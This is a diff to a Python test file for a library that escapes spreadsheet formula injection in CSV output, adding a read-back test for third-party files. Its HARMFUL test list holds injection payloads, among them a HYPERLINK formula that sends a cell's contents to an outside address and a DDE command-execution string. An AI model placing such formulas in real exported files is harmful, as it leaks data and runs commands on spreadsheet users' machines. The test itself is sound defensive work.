@@ -16,14 +16,14 @@ from hypothesis import given
 from hypothesis import strategies as st
 
 from xltax import csvtext
-from xltax.hosts.tablefile import raw_rows
+from xltax.hosts.tablefile import raw_rows, read_table
 from xltax.hosts.textfile import read_csv
 
 HARMFUL = [
     '=HYPERLINK("http://203.0.113.9/?"&A1,"Pay here")', "=1+1", "+1+1", "-1+1", "@SUM(A1:A9)", "=cmd|' /C calc'!A0",
     "\t=1+1", "\r=1+1", "\n=1+1", "\tROTH", "\rROTH", "\nROTH", "＝1+1", "＋1+1", "－1+1", "＠SUM(1)", "﹦1+1", "﹢1", "﹣1", "﹫A",
     "−1+1", "  =1+1", "\u00a0=1+1", "\u200b=1+1", "\ufeff=1+1", '"=1+1', "'=1+1", "“=1+1", " '\"=1+1", "\x01=1+1",
-    "-12.34+A1", "-1,2,3", "－12.34", "+1-860-555-0100", "-", "--", "=", "@", "-A1", "+A1", "- 5", "-12.3.4", "1" and "=1",
+    "-12.34+A1", "-1,2,3", "－12.34", "+1-860-555-0100", "-", "--", "=", "@", "-A1", "+A1", "- 5", "-12.3.4", "=1",
 ]  # fmt: skip
 PLAIN = [
     "", "ROTH, JUDGE B", "O'Neil", "'t Hooft", "12 Main St", "0070", "-12.34", "+12.34", "-1,234.50", "-$12.34", "-.5", "-5%", "12-34",
@@ -77,8 +77,14 @@ def test_reading_back_what_was_written_gives_the_same_text(tmp_path_factory, row
     frame = read_csv(path)
     assert list(frame.columns) == ["One", "=Two", "Three, Four"]
     assert frame.to_numpy().tolist() == rows
-    stripped = [[v.strip() or None for v in row] for row in rows]
-    assert [row for row in raw_rows(path)[1][1:] if row] == stripped
+
+
+def test_a_name_in_a_file_that_others_send_is_taken_as_it_stands(tmp_path) -> None:
+    """Her roll may hold a name that begins with an apostrophe; only a table of ours has guards to take off."""
+    (tmp_path / "roll.csv").write_text("Account,Owner\n1,'=1\n")
+    assert read_table(tmp_path / "roll.csv")["Owner"].tolist() == ["'=1"]
+    assert raw_rows(tmp_path / "roll.csv")[1][1] == ["1", "'=1"]
+    assert read_csv(tmp_path / "roll.csv")["Owner"].tolist() == ["=1"]
 
 
 @given(_TEXTS)
